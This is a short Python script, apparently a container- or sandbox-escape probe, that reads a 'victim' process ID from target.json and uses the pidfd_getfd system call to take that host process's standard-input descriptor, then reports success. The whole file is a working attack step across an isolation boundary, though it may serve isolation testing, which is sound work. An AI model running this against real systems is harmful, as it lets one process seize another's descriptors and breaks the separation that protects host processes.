"""Take a descriptor out of a process of the host's."""

import ctypes
import json
import os
from pathlib import Path

TARGET = json.loads(Path("target.json").read_bytes())
PIDFD_GETFD = 438

handle = os.pidfd_open(TARGET["victim"])
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(PIDFD_GETFD, handle, 0, 0) == -1:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
print("succeeded: holds the victim's standard input", flush=True)
